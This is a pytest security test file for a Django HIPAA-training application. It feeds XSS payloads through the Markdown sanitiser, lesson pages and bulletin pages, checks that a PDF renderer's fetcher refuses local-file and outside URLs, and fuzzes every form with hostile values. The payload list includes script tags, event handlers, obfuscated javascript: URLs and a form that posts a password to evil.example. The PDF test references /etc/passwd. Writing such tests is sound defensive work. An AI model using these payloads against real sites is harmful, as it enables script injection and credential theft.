"""Untrusted input: XSS payloads through the Markdown sanitiser and a published lesson; the PDF renderer's fetcher."""

from __future__ import annotations

import io
import re
import shutil
from pathlib import Path

import pytest
from django.urls import reverse
from pypdf import PdfReader

from courses.loader import load_catalog
from courses.markdown import render_markdown
from courses.models import Lesson
from courses.publishing import markdown_problem
from hipaa_training.pdf import StaticOnlyFetcher, render_pdf

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](java&#x09;script:alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<form action=https://evil.example><input name=password></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "`<script>alert(1)</script>` and <scr<script>ipt>alert(1)</script>",
]

# Raw HTML in a lesson is refused before publication (tests/courses/test_publishing.py); what is left to reach
# a published page is hostile Markdown.
MARKDOWN_PAYLOADS = [p for p in XSS_PAYLOADS if markdown_problem(p) is None]

EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
DANGEROUS_TAG = re.compile(r"<\s*(script|iframe|object|embed|svg|math|form|meta|base|link|style|img)\b", re.IGNORECASE)
DANGEROUS_URL = re.compile(r"(href|src|action)\s*=\s*[\"']?\s*(javascript|data|vbscript):", re.IGNORECASE)


def assert_inert(html: str) -> None:
    assert not DANGEROUS_TAG.search(html), html
    assert not EVENT_HANDLER.search(html), html
    assert not DANGEROUS_URL.search(html), html
    assert "javascript:" not in html.lower().replace("&amp;", "&"), html
    assert "style=" not in html.lower(), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_markdown_rendering_leaves_no_script_handler_or_javascript_url(payload):
    assert_inert(render_markdown(f"Some text.\n\n{payload}\n\nMore text, {payload} inline."))


@pytest.fixture
def hostile_catalog(tmp_path: Path, settings) -> Path:
    """A catalogue folder whose one course carries every payload in its lesson."""
    source = Path(settings.BASE_DIR) / "courses" / "catalog" / "confidentiality-basics"
    folder = tmp_path / "catalog" / "hostile-course"
    shutil.copytree(source, folder)
    lesson = sorted((folder / "lessons").glob("*.md"))[0]
    lesson.write_text("# A lesson with hostile content\n\n" + "\n\n".join(MARKDOWN_PAYLOADS) + "\n")
    return folder.parent


def assert_page_inert(html: str) -> None:
    """A whole page region: its own forms are fine; no script, handler, javascript: URL or inline style."""
    assert not re.search(r"<\s*(script|iframe|object|embed|svg|math|meta|base|link|style|img)\b", html, re.I), html
    assert not EVENT_HANDLER.search(html), html
    assert not DANGEROUS_URL.search(html), html
    assert "javascript:" not in html.lower().replace("&amp;", "&"), html
    assert "style=" not in html.lower(), html


def _main(page: str) -> str:
    return page.split('<main id="main"', 1)[1].split("</main>", 1)[0]


def test_a_published_lesson_page_carries_no_script(hostile_catalog, login, employee):
    from courses.models import Course
    from roles.services import requirement_set
    from tests.factories import role
    from tests.records.helpers import assignment_of

    load_catalog(hostile_catalog)
    lesson = Lesson.objects.get(title="A lesson with hostile content")
    assert_inert(lesson.body_html)
    # The lesson as the player shows it to a person whose role requires the course.
    requirement_set(role=role("billing"), course=Course.objects.get(slug="hostile-course"))
    assignment = assignment_of(employee, "hostile-course")
    response = login(employee).get(reverse("records:lesson", args=[assignment.pk, lesson.position]))
    assert response.status_code == 200
    content = _main(response.content.decode())
    assert lesson.body_html.strip() and lesson.body_html in content
    assert_page_inert(content)


def test_a_security_bulletin_page_carries_no_script(login, employee, compliance_officer):
    from django.utils import timezone

    from roles.bulletins import bulletin_create

    bulletin = bulletin_create(
        title="<script>alert(1)</script> Phishing",
        body="Read this.\n\n" + "\n\n".join(XSS_PAYLOADS),
        send_at=timezone.now(),
        actor=compliance_officer,
    )
    for person, url in (
        (employee, reverse("roles:bulletin", args=[bulletin.pk])),
        (compliance_officer, reverse("roles:bulletin_report", args=[bulletin.pk])),
    ):
        response = login(person).get(url)
        assert response.status_code == 200
        content = _main(response.content.decode())
        assert "Read this." in content
        assert_page_inert(content)


def test_the_pdf_renderer_fetches_nothing_outside_the_static_files():
    fetcher = StaticOnlyFetcher()
    html = """<html><head>
      <link rel="stylesheet" href="file:///etc/passwd">
      <link rel="stylesheet" href="https://evil.example/steal.css">
    </head><body>
      <p>Certificate</p>
      <img src="file:///etc/passwd">
      <img src="https://evil.example/pixel.png">
      <iframe src="file:///etc/passwd"></iframe>
      <object data="file:///etc/passwd"></object>
      <img src="../../../../etc/passwd">
    </body></html>"""
    pdf = render_pdf(html, fetcher=fetcher)
    assert "file:///etc/passwd" in fetcher.refused
    assert "https://evil.example/steal.css" in fetcher.refused
    assert "https://evil.example/pixel.png" in fetcher.refused
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Certificate" in text
    passwd = Path("/etc/passwd").read_text()
    assert "root:" in passwd
    assert "root:" not in text


# --- hostile values in every form and query parameter (the table: tests/security/hostile.py) ----------------

from tests.security import hostile  # noqa: E402


@pytest.fixture
def hostile_context(employee, manager, outsider, compliance_officer, auditor, administrator):
    from django.utils import timezone

    from records.documents.certificate import certificate_issue
    from records.models import Certificate, Completion
    from roles.bulletins import bulletin_create
    from roles.models import ReminderPolicy
    from tests.records.helpers import assignment_of, take

    ReminderPolicy.current()  # the one row exists, as after the first visit
    hostile._client_id()  # the client the client pages' targets post to exists before the first snapshot
    take(assignment_of(employee))
    certificate_issue(completion_id=Completion.objects.get(user=employee).pk)
    bulletin = bulletin_create(title="Phishing", body="Check.", send_at=timezone.now(), actor=compliance_officer)
    from roles.assignments import sync_policy_assignments
    from roles.models import PolicyAssignment
    from tests.records.policy_helpers import publish

    policy_version = publish(compliance_officer, roles=("billing",))
    sync_policy_assignments()
    hostile._draft()  # the course editor's draft, made before any snapshot
    return {
        "employee": employee,
        "manager": manager,
        "outsider": outsider,
        "compliance_officer": compliance_officer,
        "auditor": auditor,
        "administrator": administrator,
        "anonymous": None,
        "open": assignment_of(employee, "privacy-essentials"),
        "code": Certificate.objects.get().code,
        "bulletin": bulletin,
        "policy_version": policy_version,
        "policy_assignment": PolicyAssignment.objects.get(user=employee, policy_version=policy_version),
        "now": timezone.localtime().strftime("%Y-%m-%dT%H:%M"),
    }


def _snapshot(models) -> dict[str, list[dict]]:
    return {m._meta.label: list(m.objects.order_by("pk").values()) for m in models}


def _failed(response) -> bool:
    """The submission was refused: an error status, the form shown again, or a redirect with an error message."""
    from django.contrib.messages import constants

    if response.status_code >= 400 or response.status_code == 200:
        return True
    added = getattr(getattr(response.wsgi_request, "_messages", None), "_queued_messages", [])  # this request's
    return any(m.level >= constants.WARNING for m in added)


def _submit(client, target, ctx, name, value):
    from django.core.files.uploadedfile import SimpleUploadedFile

    if target.in_path:
        path = target.path({**ctx, name: value})
        return client.get(path) if target.method == "get" else client.post(path, target.data(ctx))
    data = dict(target.data(ctx))
    if name == "file":
        data[name] = SimpleUploadedFile("workforce.csv", value.encode(), content_type="text/csv")
    else:
        data[name] = [value] if isinstance(data.get(name), list) else value
    path = target.path(ctx)
    return client.get(path, data) if target.method == "get" else client.post(path, data)


@pytest.mark.parametrize("target", hostile.TARGETS, ids=lambda t: f"{t.method} {t.key}")
def test_no_hostile_value_gives_a_server_error_or_a_half_saved_row(target, hostile_context, client):
    from urllib.parse import quote

    from tests.conftest import just_signed_in

    person = hostile_context[target.persona]
    if person is not None:
        client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
    problems: list[str] = []
    for name in target.fields:
        for label, value in hostile.VALUES.items():
            if target.in_path:
                value = quote(value, safe="") or "%20"
            if person is not None:
                just_signed_in(client, person)
            before = _snapshot(target.models())
            try:
                response = _submit(client, target, hostile_context, name, value)
            except Exception as exc:  # the test client re-raises what would have been a 500
                problems.append(f"{name}={label}: {type(exc).__name__}: {str(exc)[:200]}")
                continue
            if response.status_code >= 500:
                problems.append(f"{name}={label}: {response.status_code}")
            elif _failed(response) and _snapshot(target.models()) != before:
                problems.append(f"{name}={label}: refused ({response.status_code}) but rows changed")
    assert not problems, "\n".join(problems)


def test_every_product_url_is_in_the_hostile_table():
    from tests.security.urlwalk import walk

    covered = {t.key for t in hostile.TARGETS} | hostile.NO_INPUT
    ours = [r.key for r in walk() if ":" in r.key and r.key.split(":")[0] in ("records", "roles")] + [
        r.key for r in walk() if r.key in ("home", "healthz")
    ]
    missing = sorted(set(ours) - covered)
    assert not missing, f"add these URLs to TARGETS (or NO_INPUT) in tests/security/hostile.py: {missing}"
